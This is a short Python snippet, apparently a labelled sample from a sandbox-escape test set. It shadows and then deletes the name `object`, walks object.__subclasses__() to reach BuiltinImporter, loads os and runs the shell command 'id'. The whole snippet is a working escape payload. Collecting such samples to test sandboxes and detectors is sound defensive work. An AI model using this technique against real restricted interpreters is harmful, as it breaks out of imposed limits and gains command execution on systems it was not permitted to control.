# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: class statement named `object`, then `del object` so the name falls back to the builtin
class object:
    pass


del object

for c in object.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
